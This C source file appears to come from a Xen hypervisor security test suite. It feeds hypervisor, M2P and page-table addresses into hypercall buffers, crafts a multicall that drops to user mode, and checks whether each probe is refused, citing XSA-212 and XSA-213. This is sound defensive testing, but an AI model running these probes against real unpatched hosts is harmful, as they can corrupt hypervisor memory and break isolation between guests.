/* Arguments of hypercalls: buffers that point into the hypervisor, or into page tables, or around the end of the
 * address space; and a multicall that stops being the kernel's in its middle. */
#include "attack.h"
#include <xen/grant_table.h>

/* Where no buffer of a guest's may lie. */
static unsigned long place(unsigned int kind)
{
    switch (kind) {
#ifdef __x86_64__
    case 0: return INSIDE;
    case 1: return (unsigned long)m2p;
    case 2: return 0xffff830000000000;   /* all memory, as the hypervisor sees it */
    case 3: return 0xffff820000000000;   /* this domain's own area of the hypervisor's */
    case 4: return 0x8000000000000000;
    default: return ~0UL - 7;            /* and on around the end */
#else
    case 0: return (unsigned long)m2p;
    case 1: return INSIDE;
    default: return ~0UL - 3;
#endif
    }
}

#ifdef __x86_64__
static const char *const places[] = {
    "in-the-hypervisor", "in-M2P", "in-the-direct-map", "in-the-per-domain-area", "that-is-not-canonical",
    "around-the-end",
};
#else
static const char *const places[] = {"in-M2P", "in-the-hypervisor", "around-the-end"};
#endif
#define LAST_PLACE (ARRAY_SIZE(places) - 1)
#ifdef __x86_64__
#define LAST_INSIDE (LAST_PLACE - 1)     /* Xen looks at where a buffer begins: what lies behind can only fault */
#define FIRST_INPUT 0
#else
#define LAST_INSIDE LAST_PLACE
#define FIRST_INPUT 1                    /* M2P is for a 32-bit guest to read, and so for Xen to read in its name */
#endif

static verdict_t output(unsigned int kind)
{
    return refused(hypercall_xen_version(XENVER_extraversion, (void *)place(kind)), "the hypervisor written to");
}

static verdict_t output_of_memory_op(unsigned int kind)
{
    return refused(hypercall_memory_op(XENMEM_machphys_mapping, (void *)place(kind)), "the hypervisor written to");
}

static verdict_t output_of_runstate(unsigned int kind)
{
    return refused(hypercall_vcpu_op(VCPUOP_get_runstate_info, 0, (void *)place(kind)), "the hypervisor written to");
}

static verdict_t output_later(unsigned int kind)
{
    struct vcpu_register_runstate_memory_area where = {.addr.p = place(kind)};
    return refused(hypercall_vcpu_op(VCPUOP_register_runstate_memory_area, 0, &where),
                   "an area in the hypervisor that it writes to now and then");
}

static verdict_t input_updates(unsigned int kind)
{
    return refused(hypercall_mmu_update((void *)place(kind), 1, NULL, DOMID_SELF), "the hypervisor's words as updates");
}

static verdict_t input_operations(unsigned int kind)
{
    return refused(hypercall_mmuext_op((void *)place(kind), 1, NULL, DOMID_SELF),
                   "the hypervisor's words as operations");
}

static verdict_t input_calls(unsigned int kind)
{
    return refused(hypercall_multicall((void *)place(kind), 1), "the hypervisor's words as calls");
}

static verdict_t input_traps(unsigned int kind)
{
    verdict_t verdict = refused(hypercall_set_trap_table((void *)place(kind)),
                                "the hypervisor's words as a trap table");
    traps_init();
    return verdict;
}

static verdict_t input_frames(unsigned int kind)
{
    return refused(HYPERCALL5(__HYPERVISOR_set_gdt, place(kind), 512, 0, 0, 0), "the hypervisor's words as frames");
}

/* A release build of Xen refuses a guest's words altogether, one for debugging looks where they are. */
static verdict_t console_text(unsigned int kind)
{
    return harmless(hypercall_console_io(CONSOLEIO_write, 8, (char *)place(kind)) < 0, "an error, and nothing printed",
                    "the hypervisor's memory on a console");
}

static verdict_t grant_operations(unsigned int kind)
{
    return refused(HYPERCALL5(__HYPERVISOR_grant_table_op, GNTTABOP_copy, place(kind), 1, 0, 0),
                   "the hypervisor's words as copies");
}

static verdict_t grant_frames(unsigned int kind)
{
    struct gnttab_setup_table table = {.dom = DOMID_SELF, .nr_frames = 1};
    set_xen_guest_handle(table.frame_list, (xen_pfn_t *)place(kind));
    long result = HYPERCALL5(__HYPERVISOR_grant_table_op, GNTTABOP_setup_table, &table, 1, 0, 0);
    return harmless(result || table.status, "an error, and nothing written", "a frame number in the hypervisor");
}

static verdict_t done_count(unsigned int kind)
{
    mmu_update_t update = {pte_machine_address(VA(0), 1), entry_of(page[0], PTE_DATA)};
    unsigned long before = try_load((void *)m2p);
    hypercall_mmu_update(&update, 1, (unsigned int *)place(kind), DOMID_SELF);
    return harmless(try_load((void *)m2p) == before, "the count was not written", "a count in the hypervisor");
}

/* --- memory_op exchange ------------------------------------------------------------------------------------------- */

static struct xen_memory_exchange swap_of(xen_pfn_t *in, xen_pfn_t *out, unsigned long extents)
{
    struct xen_memory_exchange swap = {
        .in = {.nr_extents = extents, .domid = DOMID_SELF},
        .out = {.nr_extents = extents, .domid = DOMID_SELF},
    };
    set_xen_guest_handle(swap.in.extent_start, in);
    set_xen_guest_handle(swap.out.extent_start, out);
    return swap;
}

/* The new frame's number would be written there. */
static verdict_t exchange_output(unsigned int kind)
{
    xen_pfn_t frame = mfn_of(page[1]);
    struct xen_memory_exchange swap = swap_of(&frame, (xen_pfn_t *)place(kind), 1);
    pte_write(VA(1), 0);
    return refused(hypercall_memory_op(XENMEM_exchange, &swap), "a frame number in the hypervisor");
}

static verdict_t exchange_input(unsigned int kind)
{
    xen_pfn_t pfn = pfn_of(page[1]);
    struct xen_memory_exchange swap = swap_of((xen_pfn_t *)place(kind), &pfn, 1);
    return refused(hypercall_memory_op(XENMEM_exchange, &swap), "the hypervisor's words as frame numbers");
}

/* The count of what is done already moves the place to write to: from a good array into the hypervisor. */
static verdict_t exchange_offset(unsigned int kind)
{
    xen_pfn_t frame = mfn_of(page[1]), pfn = pfn_of(page[1]);
    struct xen_memory_exchange swap = swap_of(&frame, &pfn, 0);
    swap.nr_exchanged = (place(kind) - (unsigned long)&pfn) / sizeof(pfn);
    swap.in.nr_extents = swap.out.nr_extents = swap.nr_exchanged + 1;
    return refused(hypercall_memory_op(XENMEM_exchange, &swap), "a frame number in the hypervisor");
}

/* --- page tables as buffers --------------------------------------------------------------------------------------- */

static verdict_t output_into_table(unsigned int level)
{
    return refused(hypercall_xen_version(XENVER_extraversion, pte_pointer(VA(0), level)),
                   "a page table written by the hypervisor");
}

/* The exchange has been made before its result could not be written: the new frame is the one whose M2P entry says what
 * the hypervisor read there. */
static void find_exchanged(const void *va, unsigned long called)
{
    unsigned long frames = (unsigned long)hypercall_memory_op(XENMEM_maximum_ram_page, NULL);
    for (unsigned long frame = 0x100; frame < frames; frame++) {
        if (m2p[frame] != called)
            continue;
        p2m[pfn_of(va)] = frame;
        mmu_set((uint64_t)frame << 12 | MMU_MACHPHYS_UPDATE, pfn_of(va));
    }
}

static verdict_t exchange_into_table(unsigned int level)
{
    uint64_t *entry = pte_pointer(VA(0), level), before = *entry;
    xen_pfn_t frame = mfn_of(page[1]);
    struct xen_memory_exchange swap = swap_of(&frame, (xen_pfn_t *)entry, 1);
    pte_write(VA(1), 0);
    pte_write(VA(2), 0);
    give_back(page[2]);                  /* so that there is a frame to be had */
    long result = hypercall_memory_op(XENMEM_exchange, &swap);
    if (!take_again(page[2]))
        return broke_out("no page for the one given back");
    find_exchanged(page[1], (unsigned long)before);
    return *entry == before ? refused(result, "a frame exchanged without being told which") :
                              broke_out("a page table written by the hypervisor");
}

/* The hypervisor writes there now and then, by our own page tables. */
static verdict_t runstate_into_table(unsigned int level)
{
    volatile uint64_t *entry = pte_pointer(VA(0), level);
    uint64_t before = *entry;
    struct vcpu_register_runstate_memory_area where = {.addr.p = (unsigned long)entry};
    if (!hypercall_vcpu_op(VCPUOP_register_runstate_memory_area, 0, &where))
        sleep_ns(1000000);
    where.addr.p = 0;
    hypercall_vcpu_op(VCPUOP_register_runstate_memory_area, 0, &where);
    return harmless(*entry == before, "the table is as before", "a page table written by the hypervisor");
}

/* --- a multicall that ends in user mode --------------------------------------------------------------------------- */

extern char stop_in_user_mode[];
__asm__(".pushsection .user, \"ax\"; stop_in_user_mode: int3; jmp stop_in_user_mode; .popsection");

#ifdef __x86_64__
#define RETURN_FRAME                                                                                     \
    "pushq %[ss]; pushq %[sp]; pushq $0x202; pushq %[cs]; pushq %[ip]; pushq $0; pushq $0; pushq $0; pushq $0; syscall"
#define USER_SELECTORS [cs] "i"(FLAT_USER_CS64), [ss] "i"(FLAT_USER_SS64)
#define CALLS_REGISTERS "D"(calls), "S"(3)
#define CLOBBERED "rcx", "r11", "memory"
#else
#define RETURN_FRAME                                                                                     \
    "pushl %[ss]; pushl %[sp]; pushl $0x202; pushl %[cs]; pushl %[ip]; pushl $0; int $0x82"
#define USER_SELECTORS [cs] "i"(FLAT_USER_CS), [ss] "i"(FLAT_USER_SS)
#define CALLS_REGISTERS "b"(calls), "c"(3)
#define CLOBBERED "memory"
#endif

/* The first call returns to user mode; the others would be made in its name and in its address space. */
static verdict_t multicall_to_user_mode(unsigned int number)
{
    (void)number;
    static char text[16];
    static multicall_entry_t calls[3];
    unsigned long result = __HYPERVISOR_multicall;
    calls[0] = (multicall_entry_t){.op = __HYPERVISOR_iret};
    calls[1] = (multicall_entry_t){.op = __HYPERVISOR_xen_version, .args = {XENVER_extraversion, (unsigned long)text}};
    calls[2] = (multicall_entry_t){.op = __HYPERVISOR_update_va_mapping, .args = {VA(1)}};
    calls[1].result = calls[2].result = 0x5a5a;
    text[0] = 0;
    TRY(RETURN_FRAME, "+a"(result) : CALLS_REGISTERS, USER_SELECTORS, [sp] "r"(user_stack_top() - 64),
        [ip] "r"(user_code(stop_in_user_mode)) : CLOBBERED);
    bool kept = seen.count && !text[0] && (calls[1].result & 0xffff) == 0x5a5a && (pte_read(VA(1)) & PTE_PRESENT);
    return harmless(kept, "the calls behind the return were not made", "hypercalls made in user mode");
}

static verdict_t multicall_in_multicall(unsigned int number)
{
    (void)number;
    multicall_entry_t inner = {.op = __HYPERVISOR_xen_version};
    multicall_entry_t outer = {.op = __HYPERVISOR_multicall, .args = {(unsigned long)&inner, 1}};
    hypercall_multicall(&outer, 1);
    return refused((long)outer.result, "a multicall within a multicall");
}

const struct attempt buffer_attempts[] = {
    {"xen_version-to-buffer-%s", NULL, output, 0, LAST_PLACE, places},
    {"memory_op-to-buffer-%s", "XSA-212", output_of_memory_op, 0, LAST_PLACE, places},
    {"runstate-to-buffer-%s", NULL, output_of_runstate, 0, LAST_PLACE, places},
    {"runstate-area-%s", NULL, output_later, 0, LAST_INSIDE, places},
    {"mmu_update-from-buffer-%s", NULL, input_updates, FIRST_INPUT, LAST_PLACE, places},
    {"mmuext_op-from-buffer-%s", NULL, input_operations, FIRST_INPUT, LAST_PLACE, places},
    {"multicall-from-buffer-%s", NULL, input_calls, FIRST_INPUT, LAST_PLACE, places},
    {"set_trap_table-from-buffer-%s", NULL, input_traps, FIRST_INPUT, LAST_PLACE, places},
    {"set_gdt-from-buffer-%s", NULL, input_frames, FIRST_INPUT, LAST_PLACE, places},
    {"console_io-from-buffer-%s", NULL, console_text, FIRST_INPUT, LAST_PLACE, places},
    {"grant-copy-from-buffer-%s", NULL, grant_operations, FIRST_INPUT, LAST_PLACE, places},
    {"grant-setup-to-buffer-%s", NULL, grant_frames, 0, LAST_PLACE, places},
    {"done-count-to-buffer-%s", NULL, done_count, 0, LAST_PLACE, places},
    {"exchange-to-buffer-%s", "XSA-212", exchange_output, 0, LAST_INSIDE, places},
    {"exchange-from-buffer-%s", "XSA-212", exchange_input, 0, LAST_PLACE, places},
    {"exchange-offset-to-buffer-%s", "XSA-212", exchange_offset, 0, LAST_PLACE, places},
    {"xen_version-into-own-L%u", NULL, output_into_table, 1, LEVELS, NULL},
    {"runstate-area-in-own-L%u", NULL, runstate_into_table, 1, LEVELS, NULL},
    {"exchange-into-own-L%u", "XSA-212", exchange_into_table, 1, LEVELS, NULL},
    {"multicall-to-user-mode", "XSA-213", multicall_to_user_mode, 0, 0, NULL},
    {"multicall-in-multicall", NULL, multicall_in_multicall, 0, 0, NULL},
    {0},
};
